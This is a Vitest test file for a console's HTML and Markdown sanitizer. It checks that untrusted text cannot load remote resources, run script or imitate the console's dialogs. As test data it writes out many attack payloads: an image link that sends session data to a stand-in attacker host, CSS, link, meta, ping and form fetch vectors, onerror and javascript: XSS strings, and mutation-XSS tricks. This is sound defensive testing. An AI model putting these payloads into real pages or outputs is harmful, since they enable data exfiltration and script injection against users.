// @vitest-environment jsdom
// jsdom, not happy-dom: DOMPurify walks the parsed tree with a live NodeIterator, which happy-dom does not
// implement faithfully (after a removal its walk stops early, so this file would test happy-dom, not us).
//
// Untrusted text renders inert: no script, no handler, and nothing that would make the console fetch a remote
// resource (lib/inert.ts). The end-to-end run (e2e/hostile.e2e.test.mjs) checks the same in Chromium with a
// listening "attacker"; these pin each vector down.
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../src/lib/markdown';
import { sanitizeInert } from '../src/lib/inert';

const ATTACKER = 'http://127.0.0.1:9/x';

/** Parses output in an inert document to inspect it. */
function parse(html: string): Document {
  return new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html');
}

/** Every attribute value in the output that names the attacker. */
function attackerRefs(html: string): string[] {
  const refs: string[] = [];
  for (const el of Array.from(parse(html).body.querySelectorAll('*'))) {
    for (const { name, value } of Array.from(el.attributes)) {
      if (value.includes('127.0.0.1:9') && !(el.localName === 'a' && name === 'href') && name !== 'title') refs.push(`<${el.localName} ${name}>`);
    }
  }
  return refs;
}

describe('remote images', () => {
  it('a Markdown image becomes a placeholder naming its host', () => {
    const html = renderMarkdown('Look: ![chart](http://127.0.0.1:9/exfil?d=secret-from-the-session)');
    const doc = parse(html);
    expect(doc.querySelectorAll('img')).toHaveLength(0);
    const box = doc.querySelector('a.remote-image');
    expect(box?.getAttribute('href')).toBe('http://127.0.0.1:9/exfil?d=secret-from-the-session');
    expect(box?.querySelector('.remote-image-label')?.textContent).toBe('chart');
    expect(box?.querySelector('.remote-image-host')?.textContent).toBe('127.0.0.1:9');
    expect(box?.getAttribute('title')).toContain('not loaded');
  });

  it('an HTML image, srcset and picture fetch nothing', () => {
    const html = renderMarkdown(
      `<img src="${ATTACKER}/a"> <img srcset="${ATTACKER}/b 1x" src="data:image/png;base64,iVBORw0KGgo="> ` +
        `<picture><source srcset="${ATTACKER}/c"><img src="${ATTACKER}/d"></picture> <img src="relative.png" alt="rel">`,
    );
    const doc = parse(html);
    expect(attackerRefs(html)).toEqual([]);
    expect(doc.querySelectorAll('picture, source')).toHaveLength(0);
    const imgs = Array.from(doc.querySelectorAll('img'));
    expect(imgs.map((i) => i.getAttribute('src'))).toEqual(['data:image/png;base64,iVBORw0KGgo=']);
    expect(imgs[0]?.hasAttribute('srcset')).toBe(false);
    expect(doc.querySelectorAll('a.remote-image')).toHaveLength(2);
    expect(doc.querySelector('span.remote-image')?.textContent).toContain('rel');
  });

  it('only data: images of an image type render', () => {
    const doc = parse(renderMarkdown('![a](data:image/svg+xml;base64,PHN2Zy8+) ![b](data:text/html,<script>x</script>) ![c](blob:http://127.0.0.1/1)'));
    expect(Array.from(doc.querySelectorAll('img')).map((i) => i.getAttribute('alt'))).toEqual(['a']);
    expect(doc.querySelectorAll('span.remote-image')).toHaveLength(2);
  });
});

describe('other ways to fetch or run', () => {
  const vectors: Record<string, string> = {
    'style attribute url()': `<div style="background:url(${ATTACKER}/css)">x</div>`,
    'style element': `<style>@import url(${ATTACKER}/imp); body{background:url(${ATTACKER}/bg)} @font-face{src:url(${ATTACKER}/f)}</style>`,
    'link prefetch and stylesheet': `<link rel="prefetch" href="${ATTACKER}/p"><link rel="stylesheet" href="${ATTACKER}/s">`,
    'video and audio': `<video poster="${ATTACKER}/poster" src="${ATTACKER}/v"><track src="${ATTACKER}/t"></video><audio src="${ATTACKER}/a" autoplay></audio>`,
    'object and embed': `<object data="${ATTACKER}/o"></object><embed src="${ATTACKER}/e">`,
    iframe: `<iframe src="${ATTACKER}/i"></iframe><iframe srcdoc="<script>parent.x=1</script>"></iframe>`,
    'svg image and use': `<svg><image href="${ATTACKER}/si"/><use href="${ATTACKER}/u#a"/></svg>`,
    'meta refresh and base': `<meta http-equiv="refresh" content="0;url=${ATTACKER}/r"><base href="${ATTACKER}/">`,
    'input image': `<input type="image" src="${ATTACKER}/ii">`,
    'table background': `<table background="${ATTACKER}/tb"><tr><td background="${ATTACKER}/td">t</td></tr></table>`,
    'a ping': `<a href="https://example.com/" ping="${ATTACKER}/ping">p</a>`,
    form: `<form action="${ATTACKER}/f"><button formaction="${ATTACKER}/b">go</button></form>`,
    'body background': `<body background="${ATTACKER}/body">`,
  };
  for (const [name, html] of Object.entries(vectors)) {
    it(name, () => {
      const out = sanitizeInert(html);
      expect(attackerRefs(out)).toEqual([]);
      expect(out).not.toMatch(/<(style|link|video|audio|track|object|embed|iframe|svg|image|use|meta|base|form|button|source|picture)\b/i);
      expect(out).not.toMatch(/\s(style|srcset|poster|background|ping|action|formaction|srcdoc|data)=/i);
    });
  }

  it('scripts, handlers and script links', () => {
    for (const text of [
      '<script>window.x=1</script><img src=x onerror="window.x=2"><details open ontoggle="window.x=3">d</details>',
      '<svg onload="window.x=4"></svg> <a href="javascript:window.x=6">a</a> <body onload="window.x=8">',
      'Links: [js](javascript:window.x=5) and [d](data:text/html,<script>x</script>) and [v](vbscript:x)',
      '<math><mtext><table><mglyph><style><img src=x onerror="window.x=7">',
      '<noscript><p title="</noscript><img src=x onerror=window.x=9>">',
    ]) {
      const doc = parse(renderMarkdown(text));
      expect(doc.querySelectorAll('script, svg, math, style, noscript')).toHaveLength(0);
      for (const el of Array.from(doc.body.querySelectorAll('*'))) {
        for (const { name, value } of Array.from(el.attributes)) {
          expect(name.startsWith('on'), `<${el.localName} ${name}> in ${text}`).toBe(false);
          expect(value, `<${el.localName} ${name}> in ${text}`).not.toMatch(/^\s*(javascript|data|vbscript):/i);
        }
      }
    }
    expect(parse(renderMarkdown('<details open ontoggle="x()">d</details>')).querySelector('details')?.hasAttribute('open')).toBe(true);
  });

  it('keeps what Markdown needs: links, code classes, tables, task lists', () => {
    const out = renderMarkdown('[site](https://example.com/a) `x`\n\n```go\nfunc main() {}\n```\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n- [x] done\n');
    const doc = parse(out);
    expect(doc.querySelector('a')?.getAttribute('href')).toBe('https://example.com/a');
    expect(doc.querySelector('pre code')?.className).toContain('language-go');
    expect(doc.querySelector('pre code span[class^="hljs-"]')).not.toBeNull();
    expect(doc.querySelector('td[align], th[align]')).not.toBeNull();
    const box = doc.querySelector('input');
    expect(box?.getAttribute('type')).toBe('checkbox');
    expect(box?.hasAttribute('disabled')).toBe(true);
  });

  it("drops the console's own classes and ids, so a reply cannot dress up as its dialogs", () => {
    const doc = parse(sanitizeInert('<div class="permission-card modal" id="root">Allow?</div><span class="hljs-keyword">k</span>'));
    expect(doc.querySelector('div')?.hasAttribute('class')).toBe(false);
    expect(doc.querySelector('div')?.hasAttribute('id')).toBe(false);
    expect(doc.querySelector('span')?.className).toBe('hljs-keyword');
  });
});
